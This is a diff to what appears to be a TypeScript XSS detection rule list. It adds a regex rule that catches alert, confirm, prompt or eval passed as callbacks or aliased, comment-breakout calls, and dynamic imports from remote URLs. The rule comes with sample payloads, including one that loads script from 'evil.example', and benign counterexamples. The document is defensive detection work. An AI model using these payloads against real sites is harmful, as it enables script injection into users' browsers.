@@ -238,6 +238,24 @@ export const xssRules: readonly Rule[] = [
       benign: ['the document, cookie and domain', 'window [of opportunity]'],
     },
   ),
+  // The function that shows a box, handed on instead of called.
+  pattern(
+    'xss/handed-on',
+    /\.(?:find|map|foreach|some|every|filter|reduce|sort|flatmap|findindex)\s{0,2}\(\s{0,2}(?:alert|confirm|prompt|eval)\s{0,2}\)|\(\s{0,2}\w{1,12}\s{0,2}=\s{0,2}(?:alert|confirm|prompt|eval)\s{0,2}\)\s{0,2}[(`]|\b\w{1,12}\s{0,2}=\s{0,2}(?:alert|confirm|prompt|eval)\s{0,2}[,;]\s{0,2}\w{1,12}\s{0,2}[(`]|\*\/\s{0,4}(?:alert|confirm|prompt|eval)\s{0,2}[(`]|\bimport\s{0,2}\(\s{0,2}["'`](?:https?:)?\/\//,
+    {
+      score: 5,
+      quotable: true,
+      words: WORD.script,
+      attacks: [
+        '[1].find(alert)',
+        '(a=alert)(1)',
+        'a=alert,a(1)',
+        '*/alert(1)/*',
+        'import(`//evil.example/x.js`)',
+      ],
+      benign: ['items.find(x)', 'a = alert', 'import(`./page.js`)', 'the alert, a (red) one'],
+    },
+  ),
   // What a probe calls, and calls that hide what is called.
   pattern(
     'xss/probe-call',
